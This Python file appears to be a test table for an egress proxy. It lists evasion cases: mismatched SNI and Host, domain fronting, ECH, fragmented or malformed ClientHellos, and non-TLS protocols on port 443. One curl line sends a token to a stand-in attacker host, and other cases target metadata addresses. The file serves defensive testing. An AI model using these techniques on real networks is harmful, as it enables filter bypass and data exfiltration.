"""Names inside of TLS that are not what the proxy was told, or that nobody can read."""

from __future__ import annotations

from .table import Case, case

PROXY, CDN = "{gw}:3128", "cdn.example:443"
STRANGER = "tenant.attacker.example"
SNIS = {
    "a stranger at the same address": STRANGER,
    "the token as a label": "{token}.attacker.example",
    "a name below an exact one": "{token}.cdn.example",
    "a denied name": "secret.wild.example",
    "a wildcard's own name": "wild.example",
    "the listed name as a prefix": "cdn.example.{token}.attacker.example",
    "the listed name as a suffix without a dot": "{token}cdn.example",
    "a public resolver": "dns.google",
    "a mining pool": "pool.mining.example",
    "an internal name": "internal.example",
    "a registry": "registry.example",
    "a single label": "{token}",
    "localhost": "localhost",
    "an address": "198.51.100.66",
    "a name in upper case": "TENANT.ATTACKER.EXAMPLE",
}
FORMS = (
    "plain", "ech", "ech-first", "ech-no-sni", "ech-empty", "ech-old", "esni", "two-names", "two-names-other-way", "two-extensions",
    "two-extensions-other-way", "unknown-kind", "nul", "nul-other-way", "empty-name", "empty-list", "bad-length", "address", "upper", "dot",
    "two-dots", "space", "utf8", "long", "port", "wild", "underscore", "none",
)  # fmt: skip
CUTS = (
    "tcp:1", "tcp:3", "tcp:6", "tcp:40", "tcp:200", "tcp:sni", "tcp:slow", "record:1", "record:16", "record:100", "record:sni", "record:head",
    "record:empty", "records:8", "records:sni", "record+tcp:40",
)  # fmt: skip
# What comes before the ClientHello to hide it.
BEFORE = {
    "an alert": "\x15\3\1\0\2\1\0", "a change of cipher": "\x14\3\1\0\1\1", "a new line": "\r\n", "a PROXY line": "PROXY TCP4 192.0.2.1 192.0.2.2 1 443\r\n",
    "a PROXY header": "\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c\xc0\0\2\1\xc0\0\2\2\0\1\1\xbb", "a request": "GET / HTTP/1.1\r\nHost: cdn.example\r\n\r\n",
    "STARTTLS": "STARTTLS\r\n", "a null record": "\x16\3\1\0\0",
}  # fmt: skip
NO_TLS = {
    "HTTP": "GET /{token} HTTP/1.1\r\nHost: cdn.example\r\n\r\n", "SSH": "SSH-2.0-{token}\r\n", "text": "{token}\r\n", "SMTP": "EHLO {token}\r\n",
    "SOCKS 4": "\4\1\1\xbb\xc6\x33\x64\x42{token}\0", "SOCKS 5": "\5\1\0{token}", "a mining protocol": '{"id":1,"method":"mining.subscribe","params":["{token}"]}\n',
    "zeros": "\0\0\0\0{token}", "an old ClientHello": "\x80\x2e\1\3\1\0\x15\0\0\0\x10{token}" + "\0" * 22, "DTLS": "\x16\xfe\xfd{token}",
    "OpenVPN": "\0\x0e\x38{token}", "HTTP/2 without TLS": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{token}",
}  # fmt: skip
FRONTING = "the address and the SNI are the listed name's own; the name inside of TLS cannot be seen without opening it"
BROKEN = {"record:empty": "no server takes an empty record in a handshake, but the name has arrived in the ClientHello"}


def cases() -> list[Case]:
    found = []
    for name, sni in SNIS.items():
        found.append(case("SNI ≠ CONNECT", name, "stream", dial=PROXY, connect=CDN, tls=sni, http=sni))
        found.append(case("unlisted SNI", f"{name}, at the address of a listed name", "stream", dial="{cdn}:443", tls=sni, http=sni))
    found += [
        case("SNI ≠ CONNECT", f"{name}", "stream", dial=PROXY, connect=connect, tls="{token}.attacker.example", http="x", **more)  # type: ignore[arg-type]
        for name, connect, more in (
            ("TLS 1.2", CDN, {"version": "1.2"}),
            ("with HTTP/2", CDN, {"alpn": ["h2", "http/1.1"]}),
            ("an unknown protocol in ALPN", CDN, {"alpn": ["x-{token}"]}),
            ("before the proxy has answered", CDN, {"early": True}),
            ("a Host header that is the SNI", CDN, {"head": "X-Host: tenant.attacker.example\r\n"}),
            ("a wildcard's name", "a.wild.example:443", {}),
            ("CONNECT in upper case", "CDN.Example:443", {}),
            ("a name with a dot", "cdn.example.:443", {}),
            ("after 30 headers", CDN, {"head": "".join(f"X-{i}: y\r\n" for i in range(30))}),
            ("in HTTP/1.0", CDN, {"head": "Connection: close\r\n"}),
        )
    ]
    for sni in ("allowed.example", "cdn.example", "a.wild.example", "pip.pkg.example"):
        found.append(case("SNI of another address", f"{sni} at the attacker's", "stream", dial="{attacker}:443", tls=sni, http=sni))
    found += [
        case("SNI of another address", "on port 8443", "stream", dial="{attacker}:8443", tls="cdn.example", http="cdn.example"),
        case("SNI of another address", "on port 80", "stream", dial="{attacker}:80", tls="cdn.example", http="cdn.example"),
        case("SNI of another address", "TLS 1.2", "stream", dial="{attacker}:443", tls="cdn.example", http="cdn.example", version="1.2"),
        case("SNI of another address", "an internal one", "stream", dial="{internal}:443", tls="cdn.example", http="cdn.example"),
        case("SNI of another address", "the site's network", "stream", dial="{corp}:443", tls="cdn.example", http="{token}.attacker.example"),
        case("SNI of another address", "metadata", "stream", dial="{metadata}:443", tls="cdn.example", http="cdn.example"),
        case("SNI of another address", "resolved by the attacker himself", "tool",
             argv=["curl", "-sk", "--max-time", "4", "--resolve", "cdn.example:443:{attacker}", "https://cdn.example/{token}"]),
        case("certificate", "of another name, TLS 1.2", "stream", dial=PROXY, connect="stranger.wild.example:443", tls="stranger.wild.example",
             http="{token}.attacker.example", version="1.2",
             limit="the listed name's own address answers so; a client that verifies refuses it, and with TLS 1.3 nobody on the way can see it"),
    ]  # fmt: skip
    for where, extra in (("CONNECT to a listed name", {"dial": PROXY, "connect": CDN}), ("the attacker", {"dial": "{attacker}:443"}),
                         ("a listed name's address", {"dial": "{allowed}:443"}), ("an internal server", {"dial": "{internal}:443"})):  # fmt: skip
        found.append(case("no SNI", where, "stream", no_sni=True, http="{token}.attacker.example", **extra))
        found.append(case("no SNI", f"{where}, TLS 1.2", "stream", no_sni=True, version="1.2", http="{token}.attacker.example", **extra))
    for form in FORMS:
        family = "ECH" if form.startswith(("ech", "esni")) else "odd ClientHello"
        # A hidden name behind a listed one, or a name that two readers read differently.
        name = "cdn.example" if family == "ECH" else STRANGER
        found.append(case(family, f"{form} after CONNECT", "stream", dial=PROXY, connect=CDN, tls=name, hello=form))
        found.append(case(family, f"{form} at a listed name's address", "stream", dial="{cdn}:443", tls=name, hello=form))
        if family == "ECH":
            found.append(case(family, f"{form} at the attacker's address", "stream", dial="{attacker}:443", tls=name, hello=form))
    for cut in CUTS:
        sni = "{token}.attacker.example"
        for where, extra in (("after CONNECT", {"dial": PROXY, "connect": CDN}), ("at the attacker's address", {"dial": "{attacker}:443"}),
                             ("at a listed name's address", {"dial": "{cdn}:443"})):  # fmt: skip
            found.append(case("fragmented ClientHello", f"{cut} {where}", "stream", tls=sni, cut=cut, http=sni, **extra))
    for name, before in BEFORE.items():
        found.append(case("odd ClientHello", f"after {name}, CONNECT", "stream", dial=PROXY, connect=CDN, before=before, tls=STRANGER, hello="plain"))
        found.append(case("odd ClientHello", f"after {name}, direct", "stream", dial="{attacker}:443", before=before, tls=STRANGER, hello="plain"))
    for name, text in NO_TLS.items():
        found.append(case("not TLS on 443", f"{name} after CONNECT", "stream", dial=PROXY, connect=CDN, send=text))
        found.append(case("not TLS on 443", f"{name} at a listed name's address", "stream", dial="{cdn}:443", send=text))
    found += _inside()
    return found


def _inside() -> list[Case]:
    """Names inside of TLS: the Host header and HTTP/2's authority."""
    host, authority = "Host ≠ SNI", "HTTP/2 authority mismatch"
    found = []
    for name, sni in (("a stranger's SNI", STRANGER), ("a denied SNI", "secret.wild.example"), ("a resolver's SNI", "dns.google")):
        for where, extra in (("CONNECT", {"dial": PROXY, "connect": CDN}), ("direct", {"dial": "{cdn}:443"})):
            found.append(case(host, f"{name}, Host listed, {where}", "stream", tls=sni, http="cdn.example", **extra))
            found.append(case(authority, f"{name}, authority listed, {where}", "stream", tls=sni, alpn=["h2"], h2="cdn.example", **extra))
    for where, extra in (("CONNECT", {"dial": PROXY, "connect": CDN}), ("direct", {"dial": "{cdn}:443"})):
        found.append(case(host, f"a listed SNI, a stranger's Host at the same address, {where}", "stream", tls="cdn.example", http=STRANGER,
                          limit=FRONTING, **extra))  # fmt: skip
        found.append(case(authority, f"a listed SNI, a stranger's authority at the same address, {where}", "stream", tls="cdn.example", alpn=["h2"],
                          h2=STRANGER, limit=FRONTING, **extra))  # fmt: skip
        found.append(case(authority, f"HTTP/2 without ALPN, a stranger's SNI, {where}", "stream", tls=STRANGER, h2="cdn.example", **extra))
    found += [
        case(host, "a listed SNI, the attacker's Host, at his address", "stream", dial="{attacker}:443", tls="cdn.example", http="attacker.example"),
        case(authority, "at the attacker's address", "stream", dial="{attacker}:443", tls="cdn.example", alpn=["h2"], h2="attacker.example"),
        case(authority, "without TLS by the proxy", "stream", dial=PROXY, h2=STRANGER,
             unshown="a proxy of HTTP/1.1 takes the preface for a request without a host"),
        case(authority, "without TLS at the attacker's port 80", "stream", dial="{attacker}:80", h2="cdn.example"),
        case(authority, "without TLS at a listed name's port 80", "stream", dial="{cdn}:80", h2=STRANGER),
        case(authority, "an upgrade from HTTP/1.1", "stream", dial="{cdn}:80",
             send="GET /{token} HTTP/1.1\r\nHost: tenant.attacker.example\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n"),
    ]  # fmt: skip
    return found
